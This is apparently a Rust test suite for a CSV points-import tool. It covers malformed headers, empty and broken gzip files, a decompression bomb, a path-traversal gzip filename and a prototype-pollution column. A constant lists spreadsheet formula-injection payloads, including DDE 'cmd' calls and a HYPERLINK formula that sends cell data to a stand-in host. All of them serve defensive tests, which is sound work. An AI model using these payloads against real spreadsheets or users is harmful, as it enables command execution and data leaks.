//! Files as a whole: layout, emptiness, containers, formulas on their way out and back in.

use std::io::Write;

use flate2::Compression;
use flate2::write::GzEncoder;
use passferry::ledger::State;
use serde_json::json;

use super::delivery::snapshot;
use crate::rig::harbour::{Harbour, harbour, wait_until};
use crate::rig::promises::check_promises;

fn gzip(content: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

/// A file that fails as a whole, before anything is asked of the platform.
#[track_caller]
fn fails(harbour: &Harbour, name: &str, content: &[u8], code: &str) -> serde_json::Value {
    harbour.deliver(name, content);
    harbour.once().exits(65);
    let report = harbour.report(name.split('.').next().unwrap());
    assert_eq!(report["fault"]["code"], code, "{report:#}");
    assert_eq!(report["rows"], json!({}), "no row of it counts");
    assert_eq!(harbour.sandbox.requests().total(), 0, "nothing is asked of the platform");
    assert!(harbour.inbox().join(".error").join(name).exists(), "{:?}", harbour.tree());
    report
}

/// E10.
#[test]
fn a_file_with_more_than_a_tenth_of_ragged_rows_is_held() {
    let ragged: String = (1..=30).map(|n| format!("C-{n},{n},gold,too,many\n")).collect();
    for (limit, good, held) in [("\"10%\"", 31..=100, true), ("\"30%\"", 31..=100, false)] {
        let harbour = harbour().points_only().members(100).feed("guard.ragged", limit).feed("guard.floor", "10").start();
        let rows: String = good.map(|n| format!("C-{n},{n},gold\n")).collect();
        harbour.deliver("points.csv", format!("id,points,tier\n{ragged}{rows}"));
        harbour.once().exits(1);
        if held {
            assert_eq!(harbour.state_of("points.csv"), Some(State::Held));
            assert_eq!(harbour.report("points.held")["guards"][0]["guard"], "ragged");
            assert_eq!(harbour.sandbox.requests().total(), 0);
        } else {
            assert_eq!(harbour.report("points")["rows"], json!({ "applied": 70, "rejected": 30 }));
        }
        check_promises(&harbour);
    }
}

/// E10.
#[test]
fn a_file_of_nothing_but_ragged_rows_is_held_although_it_would_send_nothing() {
    let harbour = harbour().points_only().feed("guard.ragged", "\"10%\"").feed("guard.floor", "10").start();
    let ragged: String = (1..=40).map(|n| format!("C-{n},{n},gold,too,many\n")).collect();
    harbour.deliver("points.csv", format!("id,points,tier\n{ragged}"));
    harbour.once().exits(1);
    assert_eq!(harbour.state_of("points.csv"), Some(State::Held));
    assert_eq!(harbour.report("points.held")["guards"][0]["guard"], "ragged");
    harbour.run(&["approve", "points.csv"]).exits(0);
    harbour.once().exits(1);
    assert_eq!(harbour.report("points")["rows"], json!({ "rejected": 40 }));
    check_promises(&harbour);
}

/// E11.
#[test]
fn a_header_inside_the_file_is_skipped_and_counted() {
    let harbour = harbour().start();
    // Two exports joined, with the line end of another machine and a byte order mark between them.
    harbour.deliver(
        "points.csv",
        "id,points,tier\nC-1,1,gold\nid,points,tier\r\nC-2,2,gold\n\"id\",\"points\",\"tier\"\n\u{feff}id,points,tier\nC-3,3,gold\n",
    );
    harbour.once().exits(0);
    let report = harbour.report("points");
    assert_eq!((&report["rows"], &report["file"]["facts"]["repeated_headers"]), (&json!({ "applied": 3 }), &json!(3)));
    assert_eq!(report["records"], 3);
    let lines = harbour.ledger().rows(&harbour.run_of("points.csv").id, &[passferry::outcome::Outcome::Applied], &mut |row| {
        assert!([2, 4, 7].contains(&row.line), "lines as an editor counts them: {}", row.line);
        Ok(())
    });
    lines.unwrap();
    check_promises(&harbour);
}

/// E11.
#[test]
fn a_header_with_a_missing_renamed_or_repeated_column_fails_the_file_and_names_the_column() {
    for (header, code, named) in [
        ("points,tier", "missing-label", "`id`"),
        ("customer,points", "extra-label", "column 1"),
        ("id,points,points", "duplicate-label", "columns 2 and 3"),
        ("id,Points", "extra-label", "column 2"),
        ("id,points,segment", "extra-label", "column 3"),
        (",,", "blank-header", "no label"),
    ] {
        let harbour = harbour().start();
        let report = fails(&harbour, "points.csv", format!("{header}\nC-1,1,x\n").as_bytes(), code);
        let message = report["fault"]["message"].as_str().unwrap();
        assert!(message.contains(named), "{header}: {message}");
        assert_eq!(report["fault"]["line"], 1);
        check_promises(&harbour);
    }
}

/// E11.
#[test]
fn extra_columns_are_ignored_with_one_warning_where_the_schema_allows_them() {
    let schema = r#"{ "fieldsMatch": "subset", "fields": [{ "name": "id", "type": "string" }, { "name": "points", "type": "integer" }] }"#;
    let harbour = harbour().schema(schema).points_only().start();
    harbour.deliver("points.csv", "segment,id,points,,__proto__\nx,C-1,1,y,z\nx,C-2,2,y,z\n");
    harbour.once().exits(0);
    let report = harbour.report("points");
    assert_eq!(report["rows"], json!({ "applied": 2 }));
    let warnings: Vec<&str> = report["warnings"].as_array().unwrap().iter().filter_map(|w| w.as_str()).collect();
    assert_eq!(warnings, ["columns not in the schema are ignored: `segment`, column 4, `__proto__`"]);
    let sent = harbour.writes();
    assert!(
        sent.iter().all(|entry| !entry.body.as_deref().unwrap_or_default().contains("proto")),
        "only mapped columns are sent: {sent:?}"
    );
    check_promises(&harbour);
}

/// E12.
#[test]
fn an_empty_file_a_file_of_blank_lines_and_a_header_alone_end_in_three_ways() {
    let harbour = harbour().start();
    let empty = fails(&harbour, "empty.csv", b"", "source-error");
    let blank = fails(&harbour, "blank.csv", b"\n\r\n\n", "source-error");
    assert_ne!(empty["fault"]["message"], blank["fault"]["message"]);
    harbour.deliver("header.csv", "id,points\n");
    harbour.once().exits(0);
    let header = harbour.report("header");
    assert_eq!((header["state"].as_str(), &header["records"], &header["fault"]), (Some("done"), &json!(0), &serde_json::Value::Null));
    assert!(harbour.inbox().join(".processed/header.csv").exists());
    harbour.deliver("bom.csv", "\u{feff}");
    harbour.once().exits(65);
    assert_eq!(harbour.report("bom")["fault"]["code"], "source-error");
    check_promises(&harbour);
}

/// E12.
#[test]
fn an_empty_file_is_given_time_to_fill() {
    let harbour = harbour().feed("quiet", "\"400ms\"").start();
    let path = harbour.inbox().join("points.csv");
    std::fs::write(&path, "").unwrap();
    let daemon = harbour.start(&["run"]);
    wait_until("it was listed", || {
        harbour.ledger_is_there() && harbour.ledger().source_notes().unwrap().iter().any(|note| note.listed_at.is_some())
    });
    std::thread::sleep(std::time::Duration::from_millis(600));
    let too_late = harbour.state_of("points.csv").is_some();
    std::fs::write(&path, snapshot(1..=9, 10)).unwrap();
    harbour.note_delivery(b"points.csv", snapshot(1..=9, 10).as_bytes());
    wait_until("it is over", || harbour.state_of("points.csv").is_some_and(State::is_over));
    assert!(too_late || harbour.state_of("points.csv") == Some(State::Done));
    assert_eq!(daemon.terminate(), 0);
    check_promises(&harbour);
}

/// E12, F2.
#[test]
fn a_header_alone_is_held_where_files_are_known_to_have_rows() {
    let harbour = harbour().points_only().members(100).feed("guard.floor", "10").start();
    for day in 1..=3 {
        harbour.deliver(format!("{day}.csv"), snapshot(1..=100, day * 10));
        harbour.once().exits(0);
    }
    let requests = harbour.sandbox.requests().total();
    harbour.deliver("4.csv", "id,points\n");
    harbour.once().exits(1);
    assert_eq!(harbour.state_of("4.csv"), Some(State::Held));
    assert_eq!(harbour.report("4.held")["guards"][0]["guard"], "rows");
    assert_eq!(harbour.sandbox.requests().total(), requests);
    check_promises(&harbour);
}

/// E13.
#[test]
fn broken_containers_fail_the_file() {
    let rows = snapshot(1..=9, 10);
    let zip = [b"PK\x03\x04\x14\0\0\0\0\0".as_slice(), rows.as_bytes()].concat();
    let mut wrong_sum = gzip(rows.as_bytes());
    let end = wrong_sum.len();
    wrong_sum[end - 6] ^= 0xff;
    let mut garbage = gzip(rows.as_bytes());
    garbage.extend_from_slice(b"and then something else");
    let whole = gzip(rows.as_bytes());
    let cases: [(&str, Vec<u8>); 6] = [
        ("zip", zip),
        ("sum", wrong_sum),
        ("garbage", garbage),
        ("head", whole[..10].to_vec()),
        ("half", whole[..whole.len() / 2].to_vec()),
        ("tail", whole[..whole.len() - 1].to_vec()),
    ];
    let harbour = harbour().start();
    for (name, content) in cases {
        harbour.deliver(format!("{name}.csv.gz"), content);
        harbour.once().exits(65);
        let report = harbour.report(name);
        assert_eq!((report["state"].as_str(), &report["rows"]), (Some("failed"), &json!({})), "{name}: {report:#}");
    }
    assert_eq!(harbour.sandbox.requests().total(), 0, "not one readable row of a broken container is sent");
    check_promises(&harbour);
}

/// E13.
#[test]
fn members_of_a_gzip_file_are_one_text_and_its_inner_name_counts_nothing() {
    let mut encoder = flate2::GzBuilder::new().filename("../../../etc/passwd").comment("C-1,99").write(Vec::new(), Compression::default());
    encoder.write_all(b"id,points\nC-1,1\n").unwrap();
    let mut joined = encoder.finish().unwrap();
    joined.extend(gzip(b"C-2,2\n"));
    let harbour = harbour().start();
    harbour.deliver("points.csv.gz", joined);
    harbour.once().exits(0);
    assert_eq!((harbour.points("C-1"), harbour.points("C-2")), (1.0, 2.0));
    assert!(!harbour.said().contains("passwd"));
    check_promises(&harbour);
}

/// E13.
#[test]
fn a_bomb_in_a_later_member_fails_the_file_before_the_disk_is_full() {
    let mut joined = gzip(snapshot(1..=9, 10).as_bytes());
    joined.extend(gzip(&vec![b'0'; 14 << 20]));
    let harbour = harbour().start();
    let report = fails(&harbour, "points.csv.gz", &joined, "compression-error");
    assert!(report["fault"]["message"].as_str().unwrap().contains("expands"), "{report:#}");
    let spooled: u64 =
        std::fs::read_dir(harbour.state().join("spool")).unwrap().map(|entry| entry.unwrap().metadata().unwrap().len()).sum();
    assert!(spooled < 12 << 20, "{spooled} bytes of it are on the disk");
    check_promises(&harbour);
}

/// What spreadsheets would carry out, or a report would show wrongly.
const FORMULAS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "'=1+1",
    "''double",
    "'plain",
    "-",
    "+",
    "-5",
    "+33612345678",
    "-1,234.50",
    "\t=1",
    "=1;2",
    "a=b",
    "\u{ff1d}1+1",
    "'",
];

/// E14.
#[test]
fn cells_that_a_spreadsheet_would_carry_out_come_back_exactly_as_they_were() {
    let passes = FORMULAS.len() as u32;
    let harbour = harbour().members(passes).start();
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let rows: String = FORMULAS.iter().enumerate().map(|(index, cell)| format!("C-{},bad,{}\n", index + 1, quoted(cell))).collect();
    harbour.deliver("points.csv", format!("id,points,tier\n{rows}"));
    harbour.once().exits(1);
    let report = String::from_utf8(harbour.read("reports/points.errors.csv")).unwrap();
    for line in harbour.errors("points") {
        let (shown, plain) = (&line["tier"], |cell: &str| {
            cell.strip_prefix(['-', '+']).unwrap_or(cell).chars().all(|c| c.is_ascii_digit() || ",.".contains(c))
        });
        let first = shown.trim_start_matches(' ').chars().next().unwrap();
        assert!(!"=+-@\t\r".contains(first) || (plain(shown) && shown.len() > 1), "{shown:?} would be carried out");
    }
    harbour.deliver("points.errors.csv", report.replace(",bad,", ",7,"));
    harbour.once().exits(0);
    for (index, cell) in FORMULAS.iter().enumerate() {
        let held = harbour.sandbox.member(&format!("C-{}", index + 1)).unwrap()["metaData"]["tier"].clone();
        assert_eq!(held, *cell);
    }
    check_promises(&harbour);
}

/// E14.
#[test]
fn the_platforms_words_are_protected_too() {
    use passferry::sandbox::{Faults, Rule, Trouble};
    let harbour = harbour().points_only().start();
    let says = "=cmd|' /C calc'!A0".to_owned();
    let rules = vec![Rule::new(Trouble::Status { code: 400, message: Some(says) }).method("PUT").id("C-2")];
    harbour.sandbox.faults().set(Faults { rules, ..Faults::default() });
    harbour.deliver("points.csv", snapshot(1..=3, 10));
    harbour.once().exits(1);
    harbour.sandbox.faults().clear();
    for name in ["errors", "problems"] {
        let text = String::from_utf8(harbour.read(&format!("reports/points.{name}.csv"))).unwrap();
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            let bad = record.iter().find(|cell| cell.starts_with(['=', '@', '+']));
            assert_eq!(bad, None, "{name}: {text}");
        }
    }
    check_promises(&harbour);
}

/// E20.
#[test]
fn reports_and_ledger_are_the_same_for_one_worker_and_for_many() {
    const ROWS: u32 = 12_000;
    let rows: String = (0..ROWS)
        .map(|n| match n % 7 {
            0 => format!("C-{n},many,gold,\n"),
            1 => format!("C-{n},{n}\n"),
            2 => format!("C-{},{n},{:0>150},\n", n % 50, n),
            _ => format!("C-{n},{n},{n:0>150},\n"),
        })
        .collect();
    let mut seen: Vec<(serde_json::Value, Vec<u8>, Vec<u8>)> = Vec::new();
    for workers in [1, 8] {
        let harbour = harbour().feed("mode", "\"plan\"").members(1).start();
        harbour.change_config(|text| text.replace("workers = 2", &format!("workers = {workers}")));
        harbour.deliver("points.csv", format!("id,points,tier,email\n{rows}"));
        harbour.once().exits(1);
        let id = harbour.run_of("points.csv").id;
        let without_id = |text: Vec<u8>| String::from_utf8(text).unwrap().replace(&id, "RUN").into_bytes();
        let report = harbour.report("points");
        let told = json!([report["rows"], report["problems"], report["problems_by_column"], report["moves"], report["file"]["facts"]]);
        seen.push((told, without_id(harbour.read("reports/points.errors.csv")), without_id(harbour.read("reports/points.problems.csv"))));
    }
    assert_eq!(seen[0].0, seen[1].0);
    assert!(seen[0].1 == seen[1].1, "the error reports differ");
    assert!(seen[0].2 == seen[1].2, "the lists of problems differ");
}

/// E21.
#[test]
fn a_cell_that_the_platform_alone_refuses_is_reported_and_corrected_alone() {
    use passferry::sandbox::{Faults, Rule, Trouble};
    let harbour = harbour().start();
    let says = "tier is not one of ours".to_owned();
    let rules = vec![Rule::new(Trouble::Status { code: 400, message: Some(says.clone()) }).method("PUT").id("C-5")];
    harbour.sandbox.faults().set(Faults { rules, ..Faults::default() });
    let rows = |tier: &str| -> String { (1..=9).map(|n| format!("C-{n},{n},{}\n", if n == 5 { tier } else { "gold" })).collect() };
    harbour.deliver("1.csv", format!("id,points,tier\n{}", rows("plutonium")));
    harbour.once().exits(1);
    harbour.sandbox.faults().clear();
    let line = &harbour.errors("1")[0];
    assert_eq!((line["_line"].as_str(), line["_outcome"].as_str()), ("6", "refused"));
    assert!(line["_problems"].contains(&says), "{line:?}");
    let before = harbour.writes_by_pass();
    harbour.deliver("2.csv", format!("id,points,tier\n{}", rows("silver")));
    harbour.once().exits(0);
    assert_eq!(harbour.report("2")["rows"], json!({ "applied": 1, "unchanged": 8 }));
    let after = harbour.writes_by_pass();
    let touched: Vec<&String> = after.keys().filter(|pass| before.get(*pass) != after.get(*pass)).collect();
    assert_eq!(touched, ["C-5"]);
    check_promises(&harbour);
}

/// F11.
#[test]
fn a_corrected_report_may_come_back_with_columns_of_its_own() {
    let schema = r#"{ "fieldsMatch": "subset", "fields": [{ "name": "id", "type": "string" }, { "name": "points", "type": "integer" }] }"#;
    for schema in [Some(schema), None] {
        let plan = harbour().points_only();
        let harbour = if let Some(schema) = schema { plan.schema(schema).start() } else { plan.start() };
        harbour.deliver("points.csv", "id,points\nC-1,1\nC-2,many\nC-3,bad\nC-4,4\n");
        harbour.once().exits(1);
        let report = String::from_utf8(harbour.read("reports/points.errors.csv")).unwrap();
        let ids: Vec<String> = harbour.errors("points").iter().map(|line| line["id"].clone()).collect();
        assert_eq!(ids, ["C-2", "C-3"], "what was applied is not in it");
        let mut lines = report.lines();
        let header = format!("{},checked by,remark", lines.next().unwrap());
        let rows: String = lines.map(|line| format!("{},pat,\"looks, better\"\n", line.replace("many", "2").replace("bad", "3"))).collect();
        let before = harbour.writes_by_pass();
        harbour.deliver("points.errors.csv", format!("{header}\n{rows}"));
        harbour.once().exits(0);
        assert_eq!((harbour.points("C-2"), harbour.points("C-3")), (2.0, 3.0));
        let after = harbour.writes_by_pass();
        assert_eq!((after.get("C-1"), after.get("C-4")), (before.get("C-1"), before.get("C-4")), "nothing of it is applied again");
        check_promises(&harbour);
    }
}

/// E14. Labels are cells too, and a correction finds its columns by them all the same.
#[test]
fn a_label_that_a_spreadsheet_would_carry_out_is_protected_and_known_again() {
    let schema = r#"{ "fieldsMatch": "superset", "fields": [ { "name": "id" }, { "name": "=points", "type": "integer" },
        { "name": "@tier" }, { "name": "+1" }, { "name": "-x" } ] }"#;
    let plan = harbour().schema(schema).feed("fields.points", "\"=points\"").feed("fields.\"metaData.tier\"", "\"@tier\"");
    let harbour = plan.feed("fields.\"person.emailAddress\"", "").start();
    harbour.deliver("points.csv", "id,=points,@tier,+1,-x\nC-1,bad,gold,a,b\nC-2,2,silver,a,b\n");
    harbour.once().exits(1);
    let report = String::from_utf8(harbour.read("reports/points.errors.csv")).unwrap();
    let labels: Vec<&str> = report.lines().next().unwrap().split(',').take(5).collect();
    assert_eq!(labels, ["id", "'=points", "'@tier", "+1", "'-x"]);
    let problems = String::from_utf8(harbour.read("reports/points.problems.csv")).unwrap();
    assert!(problems.contains("'=points") && !problems.contains(",=points"), "{problems}");
    harbour.deliver("points.errors.csv", report.replace(",bad,", ",7,"));
    harbour.once().exits(0);
    assert_eq!((harbour.points("C-1"), harbour.points("C-2")), (7.0, 2.0));
    assert_eq!(harbour.sandbox.member("C-1").unwrap()["metaData"]["tier"], "gold");
    check_promises(&harbour);
}

/// Section 5. A clean file is answered with all of its reports; those of rows have a header alone, and dropped back they do nothing.
#[test]
fn a_clean_file_has_reports_without_rows() {
    let harbour = harbour().points_only().start();
    harbour.deliver("points.csv", snapshot(1..=3, 10));
    harbour.once().exits(0);
    let text = |name: &str| String::from_utf8(harbour.read(&format!("reports/points.{name}.csv"))).unwrap();
    assert_eq!(text("errors"), "id,points,_run,_line,_record,_outcome,_codes,_problems,_retryable,_key\n");
    assert_eq!(text("problems").lines().count(), 1, "{}", text("problems"));
    assert_eq!(harbour.report("points")["rows"], json!({ "applied": 3 }));
    let asked = harbour.sandbox.requests().total();
    harbour.deliver("back.errors.csv", text("errors"));
    harbour.once();
    assert_eq!(harbour.sandbox.requests().total(), asked);
    check_promises(&harbour);
}

/// C7, C18. Names at the limit of what a file system takes: the report's is cut, and its correction finds its way back.
#[test]
fn a_file_with_the_longest_name_has_reports_with_names_that_fit() {
    let harbour = harbour().points_only().start();
    for name in ["n".repeat(251) + ".csv", "é".repeat(125) + ".csv"] {
        let name = name.as_str();
        harbour.deliver(name, "id,points\nC-1,bad\nC-2,2\n");
        harbour.once().exits(1);
        let run = harbour.run_of(name);
        assert_eq!((run.state, run.detail.reports.len()), (State::Done, 4), "{}", harbour.said());
        assert!(harbour.inbox().join(".processed").join(name).exists(), "{:?}", harbour.tree());
        let errors = run.detail.reports.iter().find(|report| report.name.ends_with(".errors.csv")).unwrap().name.clone();
        assert!(errors.len() <= 255 && name.starts_with(&errors[..20]), "{errors}");
        let fixed = String::from_utf8(harbour.read(&format!("reports/{errors}"))).unwrap().replace("bad", "7");
        harbour.deliver(&errors, fixed);
        harbour.once().exits(0);
        assert_eq!(harbour.points("C-1"), 7.0);
        harbour.deliver("zero.csv", "id,points\nC-1,1\n");
        harbour.once().exits(0);
    }
    check_promises(&harbour);
}
